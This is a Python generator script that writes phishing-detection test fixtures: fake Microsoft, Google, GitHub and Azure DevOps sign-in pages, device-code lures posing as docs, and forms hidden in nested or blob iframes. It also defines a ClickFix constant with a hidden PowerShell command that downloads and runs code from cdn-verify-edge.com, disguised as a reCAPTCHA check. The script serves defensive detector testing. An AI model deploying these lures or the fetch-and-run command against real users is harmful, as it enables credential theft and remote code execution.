#!/usr/bin/env python3
"""Writes the fixtures of tests/corpus/redteam11.js under tests/fixtures/<host>/...

Run from the repository root: python3 tests/corpus/gen-redteam11.py
"""

import base64
import html
import json
import os

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures')


def write(host, path, text):
    full = os.path.join(ROOT, host, path.lstrip('/'))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'w', encoding='utf-8') as f:
        f.write(text)
    assert len(text.encode('utf-8')) < 200_000, full


def doc(title, body, style='', head='', lang='en'):
    return f"""<!doctype html>
<html lang="{lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>{head}
<style>{style}</style></head>
<body>
{body}
</body></html>
"""


MS_LOGO = ('<svg class="logo" width="22" height="23" viewBox="0 0 22 23" aria-hidden="true">'
           '<rect x="0" y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/>'
           '<rect x="0" y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/></svg>')

MS_CSS = """
body{margin:0;font-family:"Segoe UI","Helvetica Neue",Arial,sans-serif;background:#f2f2f2 linear-gradient(135deg,#e8eef5,#f7f2ec);min-height:100vh}
.card{width:440px;max-width:92vw;margin:90px auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
.brand{display:flex;align-items:center;gap:8px;font-size:19px;color:#737373;font-weight:600;height:24px}
.brand .logo{width:22px;height:24px}
h1{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}
.inp{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin:8px 0 14px;background:transparent;font-family:inherit}
.inp:focus{border-bottom-color:#0067b8}
.small{font-size:13px;color:#1b1b1b;margin:8px 0}
.small a,a{color:#0067b8;text-decoration:none}
.btns{display:flex;justify-content:flex-end;margin-top:24px;gap:8px}
.btn{background:#0067b8;color:#fff;border:0;min-width:108px;height:32px;font-size:15px;font-family:inherit;cursor:pointer}
.btn.sec{background:#ccc;color:#000}
.foot{position:fixed;bottom:0;right:0;font-size:12px;color:#333;padding:10px 16px}
.foot a{color:#333;margin-left:14px}
"""

GOOGLE_LOGO = ('<svg class="glogo" width="75" height="24" viewBox="0 0 75 24" aria-hidden="true">'
               '<circle cx="12" cy="12" r="9" fill="none" stroke="#4285f4" stroke-width="4" stroke-dasharray="14 4 14 4 20 100"/>'
               '<circle cx="32" cy="14" r="6" fill="none" stroke="#ea4335" stroke-width="3"/>'
               '<circle cx="48" cy="14" r="6" fill="none" stroke="#fbbc05" stroke-width="3"/>'
               '<rect x="60" y="4" width="3" height="18" fill="#34a853"/><circle cx="70" cy="14" r="5" fill="none" stroke="#ea4335" stroke-width="3"/></svg>')

GOOGLE_CSS = """
body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9;min-height:100vh}
.card{width:450px;max-width:92vw;margin:80px auto 0;background:#fff;border-radius:28px;padding:36px 40px;box-sizing:border-box}
.brandrow{font-size:22px;color:#444;display:flex;gap:8px;align-items:center}
h1{font-size:32px;font-weight:400;color:#1f1f1f;margin:20px 0 8px}
.sub{font-size:16px;color:#1f1f1f;margin:0 0 28px}
.inp{width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;padding:15px;font-size:16px;margin:6px 0 10px;font-family:inherit}
a{color:#0b57d0;text-decoration:none;font-weight:500;font-size:14px}
.row{display:flex;justify-content:space-between;align-items:center;margin-top:36px}
.btn{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;font-family:inherit;cursor:pointer}
.foot{width:450px;margin:12px auto;font-size:12px;color:#444;display:flex;justify-content:space-between}
"""

GH_MARK = ('<svg class="mark" height="48" width="48" viewBox="0 0 16 16" aria-hidden="true"><path fill="#1f2328" d="M8 0C3.58 0 0 3.58 0 8c0 3.54 2.29 6.53 5.47 7.59.4.07.55-.17.55-.38 0-.19-.01-.82-.01-1.49-2.01.37-2.53-.49-2.69-.94-.09-.23-.48-.94-.82-1.13-.28-.15-.68-.52-.01-.53.63-.01 1.08.58 1.23.82.72 1.21 1.87.87 2.33.66.07-.52.28-.87.51-1.07-1.78-.2-3.64-.89-3.64-3.95 0-.87.31-1.59.82-2.15-.08-.2-.36-1.02.08-2.12 0 0 .67-.21 2.2.82.64-.18 1.32-.27 2-.27.68 0 1.36.09 2 .27 1.53-1.04 2.2-.82 2.2-.82.44 1.1.16 1.92.08 2.12.51.56.82 1.27.82 2.15 0 3.07-1.87 3.75-3.65 3.95.29.25.54.73.54 1.48 0 1.07-.01 1.93-.01 2.2 0 .21.15.46.55.38A8.013 8.013 0 0016 8c0-4.42-3.58-8-8-8z"/></svg>')

GH_CSS = """
body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI","Noto Sans",Helvetica,Arial,sans-serif;background:#f6f8fa;color:#1f2328;font-size:14px}
.top{text-align:center;padding:32px 0 16px}
h1{font-size:24px;font-weight:300;letter-spacing:-.5px;text-align:center;margin:0 0 16px}
.box{width:308px;margin:0 auto;background:#fff;border:1px solid #d1d9e0;border-radius:6px;padding:16px;box-sizing:border-box}
label{display:block;font-weight:600;margin:0 0 6px}
.inp{width:100%;box-sizing:border-box;border:1px solid #d1d9e0;border-radius:6px;padding:5px 12px;font-size:14px;line-height:20px;margin:0 0 16px;background:#f6f8fa}
.btn{width:100%;background:#1f883d;color:#fff;border:1px solid rgba(31,35,40,.15);border-radius:6px;padding:5px 16px;font-size:14px;font-weight:600;line-height:20px;cursor:pointer}
.alt{width:308px;margin:16px auto;border:1px solid #d1d9e0;border-radius:6px;padding:16px;text-align:center;box-sizing:border-box}
a{color:#0969da;text-decoration:none}
.flash{width:308px;margin:0 auto 16px;background:#fff8c5;border:1px solid #d4a72c66;border-radius:6px;padding:12px 16px;box-sizing:border-box}
"""

ADO_CSS = """
body{margin:0;font-family:"Segoe UI",-apple-system,Arial,sans-serif;background:#f8f8f8;color:#201f1e}
.bar{background:#0078d4;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:10px;font-size:15px;font-weight:600}
.bar svg{width:22px;height:22px}
.panel{width:520px;max-width:94vw;margin:56px auto;background:#fff;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13),0 .3px .9px rgba(0,0,0,.11);border-radius:4px;padding:28px 32px;box-sizing:border-box}
h1{font-size:20px;font-weight:600;margin:0 0 12px}
.inp{width:100%;box-sizing:border-box;border:1px solid #8a8886;border-radius:2px;padding:7px 8px;font-size:14px;margin:4px 0 14px}
.btn{background:#0078d4;color:#fff;border:0;border-radius:2px;padding:8px 20px;font-size:14px;font-weight:600;cursor:pointer}
label{font-size:14px;font-weight:600}
.meta{font-size:13px;color:#605e5c;margin:0 0 18px}
"""
ADO_ICON = ('<svg viewBox="0 0 18 18" aria-hidden="true"><path fill="#fff" d="M17 4v9.74l-4 3.28-6.2-2.26V17l-3.51-4.59 10.23.8V4.44zm-3.41.49L7.85 1v2.29L2.58 4.84 1 6.87v4.61l2.26 1V6.57z"/></svg>')


def ms_page(title, brand, heading, inner, extra_css='', head='', script='', tail=''):
    body = f"""<main class="card">
  <div class="brand">{MS_LOGO}<span class="bname">{brand}</span></div>
  <h1>{heading}</h1>
  {inner}
</main>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
{tail}
<script>{script}</script>"""
    return doc(title, body, MS_CSS + extra_css, head)


MS_FORM = """<form id="f" action="/next.php" method="post" autocomplete="off">
    <div class="small">{who}</div>
    <input class="inp" type="email" name="email" placeholder="Email, phone, or Skype" value="{email}">
    <input class="inp" type="password" name="pass" placeholder="Password">
    <div class="small"><a href="#">Forgot my password</a></div>
    <div class="btns"><button class="btn" type="submit">Sign in</button></div>
  </form>"""


def google_page(title, heading, sub, inner, extra_css='', script='', tail=''):
    body = f"""<main class="card">
  <div class="brandrow">{GOOGLE_LOGO}</div>
  <h1>{heading}</h1>
  <p class="sub">{sub}</p>
  {inner}
</main>
<div class="foot"><span>English (United States)</span><span><a href="#">Help</a> &nbsp; <a href="#">Privacy</a> &nbsp; <a href="#">Terms</a></span></div>
{tail}
<script>{script}</script>"""
    return doc(title, body, GOOGLE_CSS + extra_css)


def gh_page(title, heading, inner, extra_css='', script='', flash='', tail=''):
    body = f"""<div class="top">{GH_MARK}</div>
<h1>{heading}</h1>
{flash}
<div class="box">{inner}</div>
<div class="alt">New to GitHub? <a href="#">Create an account</a>.</div>
{tail}
<script>{script}</script>"""
    return doc(title, body, GH_CSS + extra_css)


GH_FORM = """<form id="f" action="/session" method="post">
  <label for="user">Username or email address</label>
  <input class="inp" type="text" name="user" id="user" autocapitalize="off">
  <label for="pw">Password</label>
  <input class="inp" type="password" name="pw" id="pw">
  <button class="btn" type="submit">Sign in</button>
</form>"""


def ado_page(title, heading, inner, extra_css='', script=''):
    body = f"""<header class="bar">{ADO_ICON}<span class="bname">Azure DevOps</span></header>
<main class="panel"><h1>{heading}</h1>{inner}</main>
<script>{script}</script>"""
    return doc(title, body, ADO_CSS + extra_css)


def js(s):
    # a JSON string literal that is safe inside <script> (no `</`)
    return json.dumps(s).replace('</', '<\\/')


# ---------------------------------------------------------------- family 1: ClickFix on a provider-styled card

CF_CSS = """
.steps{margin:14px 0;padding:0;list-style:none;counter-reset:s}
.steps li{counter-increment:s;margin:10px 0;font-size:15px;display:flex;gap:10px;align-items:center}
.steps li::before{content:counter(s);display:inline-flex;width:24px;height:24px;border-radius:50%;background:#0067b8;color:#fff;justify-content:center;align-items:center;font-size:13px;flex:none}
kbd{border:1px solid #999;border-bottom-width:2px;border-radius:4px;padding:1px 6px;font-family:Consolas,monospace;background:#f7f7f7;font-size:13px}
.capt{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;padding:14px;margin:14px 0;width:280px;box-shadow:0 0 4px #0001}
.capt .box{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}
.capt small{margin-left:auto;font-size:10px;color:#555;text-align:center}
.note{font-size:12px;color:#605e5c;margin-top:10px}
"""


def clip(cmd):
    return f"navigator.clipboard.writeText({js(cmd)}).catch(()=>{{}})"


PS = 'powershell -w hidden -nop -c "iex (iwr -UseBasicParsing https://cdn-verify-edge.com/c/{tag}).Content" # ✅ I am not a robot - reCAPTCHA Verification ID: {n}'
BITB_CSS = """
dialog{padding:0;border:0;border-radius:8px;box-shadow:0 10px 40px #0006;width:460px}
dialog::backdrop{background:#0005}
.chrome{background:#dee1e6;padding:6px 10px;font:12px system-ui;display:flex;gap:8px;align-items:center}
.chrome .dots span{display:inline-block;width:11px;height:11px;border-radius:50%;margin-right:5px}
.win{padding:28px 36px;font-family:Roboto,Arial,sans-serif}
.win .inp{width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;padding:13px;font-size:15px;margin:6px 0 10px}
.win .btn{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:9px 22px;float:right}
"""

# ---------------------------------------------------------------- ordinary pages that must stay quiet

PLAIN = """
body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#f4f5f7;color:#222}
.box{width:460px;margin:60px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px #0002;padding:32px;box-sizing:border-box}
h1{font-size:22px;margin:0 0 18px}
.inp{width:100%;box-sizing:border-box;border:1px solid #bbb;border-radius:4px;padding:9px;font-size:15px;margin:4px 0 14px}
.btn{background:#2a6;color:#fff;border:0;border-radius:4px;padding:9px 18px;font-size:15px;cursor:pointer}
pre{background:#1e1e1e;color:#eee;padding:12px;border-radius:6px;overflow:auto}
kbd{border:1px solid #999;border-radius:3px;padding:0 5px;background:#f7f7f7}
"""


def plain(title, body):
    return doc(title, f'<div class="box">{body}</div>', PLAIN)



DOCS_CSS = """
body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#1f2328;background:#fff}
.top{height:52px;border-bottom:1px solid #e5e7eb;display:flex;align-items:center;padding:0 24px;gap:10px;font-weight:600}
.wrap{display:flex;max-width:1100px;margin:0 auto}
nav.side{width:220px;padding:24px 16px;font-size:14px;line-height:2;border-right:1px solid #eee}
nav.side a{color:#57606a;text-decoration:none;display:block}
article{flex:1;padding:24px 40px;max-width:760px;line-height:1.6}
pre{background:#0d1117;color:#e6edf3;padding:14px 16px;border-radius:6px;font:13px/1.5 ui-monospace,Consolas,monospace;white-space:pre-wrap}
pre .p{color:#7ee787}
code{background:#f0f2f4;padding:1px 5px;border-radius:4px;font-size:90%}
.btn{display:inline-block;background:#0969da;color:#fff;border:0;border-radius:6px;padding:8px 16px;font-size:14px;text-decoration:none;cursor:pointer;margin-right:8px}
.callout{border-left:4px solid #0969da;background:#ddf4ff;padding:10px 14px;border-radius:4px}
"""


def docs_page(title, site, side, body, script='', lang='en'):
    links = ''.join(f'<a href="#">{s}</a>' for s in side)
    return doc(title, f"""<header class="top"><span style="display:inline-block;width:22px;height:22px;border-radius:5px;background:#8250df"></span>{site}</header>
<div class="wrap"><nav class="side">{links}</nav><article>{body}</article></div><script>{script}</script>""", DOCS_CSS, lang=lang)


def copy_btn(text, label='Copy code'):
    return f"""<button class="btn" onclick="{html.escape(clip(text))}">{label}</button>"""


# ---------------------------------------------------------------- D: a device-code lure dressed as documentation

def fam_d():
    code = 'GF7KQ2XRT'
    write('roomlink-setup.dev', '/docs/join/index.html', docs_page('Join from a meeting room – RoomLink docs', 'RoomLink docs',
        ['Overview', 'Install', 'Join a meeting', 'Troubleshooting'],
        f"""<h1>Join the board briefing from a meeting room</h1>
<p>The room console has already started the meeting for you. Finish the sign-in from your laptop so the room can join with your calendar.</p>
<pre><span class="p">PS C:\\&gt;</span> roomlink join --meeting 482-117-903 --room "Board Room 4"
Connecting to Microsoft Teams Rooms ...
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code {code} to authenticate.
Waiting for sign-in ...</pre>
<p>{copy_btn(code)}<a class="btn" href="https://microsoft.com/devicelogin" target="_blank">Open microsoft.com/devicelogin</a></p>
<p class="callout">Sign in with your work account when asked and approve. The room joins as soon as you do.</p>"""))

    code = '8C4F-2D9A'
    write('release-signing.dev', '/maintainers/index.html', docs_page('release-signing/README.md', 'release-signing',
        ['README.md', 'CONTRIBUTING.md', 'SECURITY.md'],
        f"""<h1>release-signing</h1>
<p>Signs and publishes the org's release artifacts.</p>
<h2>Maintainer re-verification (required before 12 May)</h2>
<p>Every maintainer must refresh their token once so the signing bot keeps publish rights. Run the command below, or just use the code we generated for you:</p>
<pre><span class="p">$</span> gh auth refresh -h github.com -s write:packages,admin:org,workflow
! First copy your one-time code: {code}
Press Enter to open github.com in your browser...</pre>
<p>Open <a href="https://github.com/login/device">https://github.com/login/device</a>, enter <b>{code}</b> and click <b>Authorize</b>.</p>
<p>{copy_btn(code)}<a class="btn" href="https://github.com/login/device">Continue on github.com</a></p>"""))

    code = 'HW3Q9LK2C'
    write('pipeline-agent-setup.net', '/docs/register/index.html', docs_page('Register your build agent – Azure DevOps docs', 'Pipelines agent setup',
        ['Agent pools', 'Register an agent', 'Service connections'],
        f"""<h1>Register your self-hosted agent with Azure DevOps</h1>
<p>The northwind-eng organization moved to device sign-in for agents. The agent on your machine has already requested a code; sign in once to link it.</p>
<pre><span class="p">$</span> az devops login --organization https://dev.azure.com/northwind-eng
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code {code} to authenticate.</pre>
<p>{copy_btn(code)}<a class="btn" href="https://microsoft.com/devicelogin">Open the sign-in page</a></p>"""))

    code = 'QXT-HKW-PRB'
    write('sheets-sync-tool.dev', '/docs/quickstart/index.html', docs_page('Quickstart – SheetSync developer docs', 'SheetSync developer docs',
        ['Quickstart', 'Auth', 'API reference'],
        f"""<h1>Quickstart: connect your Google Workspace</h1>
<p>Your workspace admin enabled SheetSync for your team. Approve the connection request below to keep your shared sheets syncing.</p>
<pre><span class="p">$</span> sheetsync auth --workspace finance-team
Go to https://www.google.com/device and enter code: {code}
Waiting for approval...</pre>
<p>{copy_btn(code)}<a class="btn" href="https://www.google.com/device">Go to google.com/device</a></p>"""))

    code = 'ZP8M3KQ7D'
    nb_css = """body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f5f5f5}.bar{background:#fff;border-bottom:1px solid #ddd;padding:10px 20px;font-weight:600}
.cell{max-width:900px;margin:12px auto;background:#fff;border:1px solid #ddd;display:flex}.cell .n{width:70px;color:#307fc1;font:12px monospace;padding:10px;text-align:right}
.cell pre{flex:1;margin:0;padding:10px;font:13px/1.5 Consolas,monospace;white-space:pre-wrap}.out pre{background:#fff}"""
    write('shared-notebook-view.net', '/nb/q3-forecast/index.html', doc('q3-forecast.ipynb – shared notebook', f"""<div class="bar">q3-forecast.ipynb <small style="font-weight:400;color:#666">— shared with you · read only until you connect</small></div>
<div class="cell"><div class="n">In [1]:</div><pre>from azure.identity import DeviceCodeCredential
cred = DeviceCodeCredential()
df = load_forecast("https://northwind.sharepoint.com/sites/finance/q3.xlsx", cred)</pre></div>
<div class="cell out"><div class="n">Out[1]:</div><pre>To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code {code} to authenticate.</pre></div>
<div class="cell"><div class="n">In [2]:</div><pre>df.head()   # the forecast loads once you have signed in</pre></div>""", nb_css))


# ---------------------------------------------------------------- S: a sign-in card in the site's own name

SITE_CSS = """
body{margin:0;font-family:system-ui,"Segoe UI",Roboto,Arial,sans-serif;background:#eef1f4;color:#222}
.head{background:#243447;color:#fff;padding:14px 28px;display:flex;align-items:center;gap:12px;font-size:18px;font-weight:600}
.head i{display:inline-block;width:28px;height:28px;border-radius:50%;background:#f0a500}
.card{width:420px;margin:50px auto;background:#fff;border-radius:10px;box-shadow:0 2px 12px #0002;padding:30px 34px;box-sizing:border-box}
h1{font-size:22px;margin:0 0 10px}
.inp{width:100%;box-sizing:border-box;border:1px solid #bbb;border-radius:5px;padding:10px;font-size:15px;margin:4px 0 14px}
.btn{width:100%;background:#243447;color:#fff;border:0;border-radius:5px;padding:10px;font-size:15px;cursor:pointer}
.line{display:flex;align-items:center;gap:8px;font-size:13px;color:#444;margin:0 0 14px}
.line svg{flex:none}
label{font-size:13px;font-weight:600}
"""

G_MARK = ('<svg width="20" height="20" viewBox="0 0 48 48" aria-hidden="true"><path fill="#4285F4" d="M45 24.5c0-1.6-.1-3.1-.4-4.5H24v8.5h11.8c-.5 2.8-2.1 5.1-4.4 6.7v5.5h7.1c4.2-3.8 6.5-9.5 6.5-16.2z"/>'
          '<path fill="#34A853" d="M24 46c5.9 0 10.9-2 14.5-5.3l-7.1-5.5c-2 1.3-4.5 2.1-7.4 2.1-5.7 0-10.5-3.8-12.2-9H4.5v5.7C8.1 41.1 15.5 46 24 46z"/>'
          '<path fill="#FBBC05" d="M11.8 28.3c-.4-1.3-.7-2.8-.7-4.3s.3-3 .7-4.3V14H4.5C3 17 2 20.4 2 24s1 7 2.5 10z"/><path fill="#EA4335" d="M24 10.8c3.2 0 6.1 1.1 8.4 3.3l6.3-6.3C34.9 4.2 29.9 2 24 2 15.5 2 8.1 6.9 4.5 14l7.3 5.7c1.7-5.2 6.5-8.9 12.2-8.9z"/></svg>')


def site_page(title, site, inner, script='', lang='en', extra_css=''):
    return doc(title, f"""<header class="head"><i></i>{site}</header><main class="card">{inner}</main><script>{script}</script>""", SITE_CSS + extra_css, lang=lang)


def fam_s():
    write('kobe-makers-guild.org', '/member/login/index.html', site_page('Member area – Kobe Makers Guild', 'Kobe Makers Guild', f"""<h1>Sign in to the member area</h1>
<div class="line">{MS_LOGO}<span>Members sign in with their Microsoft 365 work account.</span></div>
<form action="/member/session" method="post"><label>Work e-mail</label><input class="inp" type="email" name="email">
<label>Microsoft 365 password</label><input class="inp" type="password" name="pw"><button class="btn">Enter member area</button></form>
<p style="font-size:13px"><a href="#">Become a member</a></p>"""))

    step2 = f"""<div class="line">{G_MARK}<b>Confirm it’s you</b></div><p style="font-size:14px">To protect your race entries, enter the password of the Google Account you registered with.</p>
<form action="/mypage/verify" method="post"><input class="inp" type="password" name="gpw" placeholder="Google Account password"><button class="btn">Continue</button></form>"""
    write('harbor-runners.club', '/mypage/index.html', site_page('My page | Harbor Runners Club', 'Harbor Runners Club', f"""<div id="s1"><h1>My page</h1><p style="font-size:14px">Log in to see your race entries and results.</p>
<label>E-mail</label><input class="inp" type="email" name="email" value="runner@gmail.com"><button class="btn" id="next" type="button">Next</button></div>
<div id="s2"></div>""", f"document.getElementById('next').onclick=()=>{{document.getElementById('s1').hidden=true;document.getElementById('s2').innerHTML={js(step2)}}}"))

    write('crate-mirror.dev', '/login/index.html', site_page('Sign in – CrateMirror', 'CrateMirror', f"""<h1>Sign in to CrateMirror</h1>
<form action="/session" method="post"><label>E-mail</label><input class="inp" type="email" name="email"><label>Password</label><input class="inp" type="password" name="password"><button class="btn">Sign in</button></form>
<hr style="margin:24px 0"><div class="line">{GH_MARK.replace('height="48" width="48"', 'height="20" width="20"')}<b>Mirror private repositories</b></div>
<p style="font-size:13px">To mirror private repositories we need to sign in to GitHub as you once.</p>
<form action="/link" method="post"><label>GitHub username</label><input class="inp" type="text" name="gh_user"><label>GitHub password</label><input class="inp" type="password" name="gh_pass"><button class="btn" style="background:#1f883d">Link GitHub</button></form>"""))

    write('buildgrid-ci.io', '/signin/index.html', site_page('Sign in – BuildGrid', 'BuildGrid', """<h1>Sign in to BuildGrid</h1>
<p class="line">BuildGrid signs you in with your Azure DevOps organization account: use the same e-mail and password as on dev.azure.com.</p>
<form action="/signin" method="post"><label>E-mail</label><input class="inp" type="email" name="email"><label>Password</label><input class="inp" type="password" name="password"><button class="btn">Sign in</button></form>"""))

    inner = f"""<div style="font-family:Segoe UI,Arial;padding:6px 4px">{MS_LOGO}<p style="font-weight:600;font-size:18px;margin:10px 0">Verify with your Microsoft account</p>
<form action="/portal/verify" method="post"><input style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:6px 0 12px;font-size:15px" type="email" name="u" placeholder="someone@example.com">
<input style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:6px 0 12px;font-size:15px" type="password" name="p" placeholder="Password"><button style="background:#0067b8;color:#fff;border:0;padding:7px 20px">Verify</button></form></div>"""
    write('riverbend-staff.com', '/portal/index.html', site_page('Riverbend Staff Portal', 'Riverbend Staff Portal', f"""<h1>Welcome to the staff portal</h1>
<p style="font-size:14px">Payslips, rota and leave requests. Please verify your account to continue.</p>
<iframe title="verify" style="width:100%;height:230px;border:0" srcdoc="{html.escape(inner)}"></iframe>"""))


# ---------------------------------------------------------------- J: a site name in a non-Latin script over a provider-styled sign-in

def ms_card_native(title, site, heading, user_ph, pw_ph, forgot, button, lang, dir_='ltr'):
    body = f"""<header style="background:#fff;border-bottom:1px solid #ddd;padding:12px 28px;font-size:20px;font-weight:600;color:#1b1b1b">{site}</header>
<main class="card" dir="{dir_}">
  <div class="brand">{MS_LOGO}</div>
  <h1>{heading}</h1>
  <form action="/login/next" method="post"><input class="inp" type="email" name="login" placeholder="{user_ph}">
  <input class="inp" type="password" name="passwd" placeholder="{pw_ph}">
  <div class="small"><a href="#">{forgot}</a></div>
  <div class="btns"><button class="btn">{button}</button></div></form>
</main>"""
    return doc(title, body, MS_CSS, lang=lang)


def fam_j():
    write('sakura-kenpo.jp', '/login/index.html', ms_card_native('さくら健康保険組合｜加入者ページ ログイン', 'さくら健康保険組合 加入者ページ', 'サインイン',
        'メール、電話、Skype', 'パスワード', 'パスワードを忘れた場合', 'サインイン', 'ja'))
    write('hanbit-edu.kr', '/portal/login/index.html', ms_card_native('한빛교육 통합포털 - 로그인', '한빛교육 통합포털', '로그인',
        '전자 메일, 전화 또는 Skype', '암호', '암호를 잊으셨나요?', '로그인', 'ko'))
    write('nour-alkhaleej.ae', '/login/index.html', ms_card_native('بوابة نور الخليج - تسجيل الدخول', 'بوابة نور الخليج', 'تسجيل الدخول',
        'البريد الإلكتروني أو الهاتف أو Skype', 'كلمة المرور', 'هل نسيت كلمة المرور؟', 'تسجيل الدخول', 'ar', 'rtl'))
    body = f"""<header style="background:#fff;border-bottom:1px solid #ddd;padding:12px 28px;font-size:20px">华信云盘</header>
<main class="card"><div class="brandrow">{GOOGLE_LOGO}</div><h1>登录</h1><p class="sub">使用您的 Google 账号</p>
<form action="/login/next" method="post"><input class="inp" type="email" name="identifier" placeholder="电子邮件地址或电话号码">
<input class="inp" type="password" name="Passwd" placeholder="输入您的密码"><div class="row"><a href="#">创建账号</a><button class="btn">下一步</button></div></form></main>"""
    write('huaxin-pan.cn', '/login/index.html', doc('华信云盘 - 登录', body, GOOGLE_CSS, lang='zh-CN'))
    body = f"""<div class="top">{GH_MARK}</div><h1>Вход в КодоБаза</h1>
<div class="box"><form action="/session" method="post"><label for="l">Имя пользователя или адрес электронной почты</label><input class="inp" type="text" name="login" id="l">
<label for="p">Пароль</label><input class="inp" type="password" name="password" id="p"><button class="btn">Войти</button></form></div>
<div class="alt">Впервые здесь? <a href="#">Создать аккаунт</a>.</div>"""
    write('kodobaza.ru', '/login/index.html', doc('КодоБаза — вход', body, GH_CSS, lang='ru'))


# ---------------------------------------------------------------- R: forms inside frames a content script may not read well

def ms_signin_doc(action='/next.php'):
    return ms_page('Sign in to your account', 'Microsoft', 'Sign in', MS_FORM.format(who='', email='').replace('/next.php', action))


def fam_r():
    inner = ms_signin_doc()
    mid = f"""<!doctype html><body style="margin:0"><iframe style="position:fixed;inset:0;width:100%;height:100%;border:0" srcdoc="{html.escape(inner)}"></iframe></body>"""
    write('invoice-share-portal.com', '/v/77412/index.html', doc('Secure document – INV-77412', f"""<p style="font:14px Arial;color:#666">Loading secure document…</p>
<iframe sandbox="allow-scripts allow-forms" style="position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff" srcdoc="{html.escape(mid)}"></iframe>"""))

    g = doc('Sign in – Google Accounts', f"""<main class="card"><div class="brandrow">{GOOGLE_LOGO}</div><h1>Sign in</h1><p class="sub">to continue to Drive</p>
<form action="https://drive-file-preview.net/c" method="post"><input class="inp" type="email" name="identifier" placeholder="Email or phone"><input class="inp" type="password" name="Passwd" placeholder="Enter your password">
<div class="row"><a href="#">Forgot password?</a><button class="btn">Next</button></div></form></main>""", GOOGLE_CSS)
    url = 'data:text/html;base64,' + base64.b64encode(g.encode()).decode()
    write('drive-file-preview.net', '/d/19Qx/index.html', doc('Q4_Bonus.pdf', f"""<iframe style="position:fixed;inset:0;width:100%;height:100%;border:0" src="{url}"></iframe>"""))

    gh = gh_page('Sign in to GitHub · GitHub', 'Sign in to GitHub', GH_FORM.replace('/session', 'https://gist-render.dev/s'))
    write('gist-render.dev', '/g/5f2a/index.html', doc('gist 5f2a – render', f"""<p style="font:14px Arial">Rendering gist…</p>
<script>const b=new Blob([{js(gh)}],{{type:'text/html'}});const f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff';f.src=URL.createObjectURL(b);document.body.appendChild(f);</script>"""))

    write('ado-wiki-viewer.net', '/northwind/wiki/loading.html', doc('Loading', '<p style="font:14px Segoe UI,Arial;color:#666">Loading wiki…</p>'))
    write('ado-wiki-viewer.net', '/northwind/wiki/auth.html', ado_page('Sign in – Azure DevOps', 'Sign in to view the Northwind wiki',
        '<p class="meta">Your session expired. Sign in with your organization account.</p><form action="/northwind/wiki/s" method="post"><label>Email</label><input class="inp" type="email" name="email"><label>Password</label><input class="inp" type="password" name="password"><button class="btn">Sign in</button></form>'))
    write('ado-wiki-viewer.net', '/northwind/wiki/index.html', doc('Northwind wiki', """<iframe id="f" src="/northwind/wiki/loading.html" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>
<script>setTimeout(()=>{document.getElementById('f').src='/northwind/wiki/auth.html'},1200)</script>"""))

    outer = """<iframe id="a" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>
<script>setTimeout(()=>{const d=document.getElementById('a').contentDocument;d.open();d.write('<body style=\\"margin:0\\"><iframe id=\\"b\\" style=\\"position:fixed;inset:0;width:100%;height:100%;border:0\\"></iframe></body>');d.close();
const e=d.getElementById('b').contentDocument;e.open();e.write(INNER);e.close();},800)</script>"""
    write('scan-to-email.net', '/inbox/index.html', doc('Scanned document', outer.replace('INNER', js(ms_signin_doc('https://scan-to-email.net/p')))))


# ---------------------------------------------------------------- B: browser-in-the-browser with the provider's form markup and a logo of its own

BB_CSS = """
body{margin:0;font-family:system-ui,Arial,sans-serif;background:#11151c;color:#eee}
.hero{padding:60px;text-align:center}
.win{width:470px;background:#fff;color:#1b1b1b;border-radius:8px;box-shadow:0 12px 40px #000a;padding:0;border:0}
.win::backdrop{background:#0008}
.chrome{background:#dee1e6;padding:7px 10px;font:12px system-ui;display:flex;gap:8px;align-items:center;border-radius:8px 8px 0 0}
.chrome .url{flex:1;background:#fff;border-radius:11px;padding:3px 10px;color:#202124;white-space:nowrap;overflow:hidden}
.dots span{display:inline-block;width:11px;height:11px;border-radius:50%;margin-right:5px}
.pane{padding:30px 40px;font-family:"Segoe UI",Arial,sans-serif}
.pane input[type=email],.pane input[type=text],.pane input[type=password]{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0 14px}
.pane .go{background:#0067b8;color:#fff;border:0;min-width:108px;height:32px;float:right}
.own{display:flex;align-items:center;gap:8px;font-weight:700;font-size:17px}
.own i{display:inline-block;width:24px;height:24px;border-radius:6px;background:linear-gradient(135deg,#ff7a18,#af002d)}
"""

